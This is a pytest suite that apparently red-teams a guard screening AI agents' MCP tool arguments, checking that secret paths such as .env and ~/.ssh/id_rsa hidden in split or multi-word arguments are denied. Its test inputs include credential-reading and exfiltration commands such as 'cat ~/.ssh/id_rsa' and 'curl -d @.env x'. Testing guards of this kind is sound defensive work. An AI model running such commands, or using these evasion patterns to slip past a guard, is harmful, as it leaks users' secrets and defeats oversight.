"""Red team 7 (issue 9, class 2): an MCP argument that holds several paths or a command line.

A server may split `"src/a.py .env"`, `"a.py,.env"`, `"a.py:.env"` or one path per line, or hand
`"--file .env"` / `"cat .env"` to a program that does: every word is a potential path, with its
`=` value, a curl-style `@FILE` and a `file:` URI's path. The multi-line value of a key that holds
text (`content`, `message` ...) is read line by line: only a line of one word is a path."""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("mcp"), files={".env": "K=1\n", "src/a.py": "x\n", "~/.ssh/id_rsa": "k\n"})


@pytest.mark.parametrize("arguments", [
    {"path": "src/a.py .env"},
    {"args": "--file .env"},
    {"args": "--file=src/a.py --env=.env"},
    {"command": "cat .env"},
    {"files": "src/a.py,.env"},
    {"files": "src/a.py:.env"},
    {"files": "src/a.py;.env"},
    {"path": "src/a.py\n.env"},
    {"path": "src/a.py\t.env"},
    {"args": "curl -d @.env x"},
    {"a": "x file:///PROJECT/%2eenv"},
    {"a": "(.env)"},
    {"list": ["x", {"nested": "a.py '.env'"}]},
    {"command": "cat .env\nls\n"},
    {"content": "notes\n.env\n"},
])
def test_every_word_of_an_argument_is_a_path(setup, arguments):
    arguments = {k: v.replace("PROJECT", setup.project.lstrip("/")) if isinstance(v, str) else v
                 for k, v in arguments.items()}
    assert_denied(setup.check("mcp__fs__read_file", arguments, role="open"), ".env", "denied by deny-path")


def test_a_home_secret_among_words(setup):
    assert_denied(setup.check("mcp__shell__run", {"command": "cat ~/.ssh/id_rsa"}, role="open"), ".ssh")


@pytest.mark.parametrize("arguments", [
    {"path": "src/a.py", "content": "print(1)\nx = 2\n"},
    {"query": "how do I fix the tests in src"},
    {"url": "https://example.com/a?b=c"},
    {"paths": "src/a.py, README.md"},
    {"path": "src/notes.md", "content": "copy the template to .env\nthen run it\n"},
])
def test_arguments_without_a_secret_stay_allowed(setup, arguments):
    assert_allowed(setup.check("mcp__fs__read_file", arguments, role="open"))
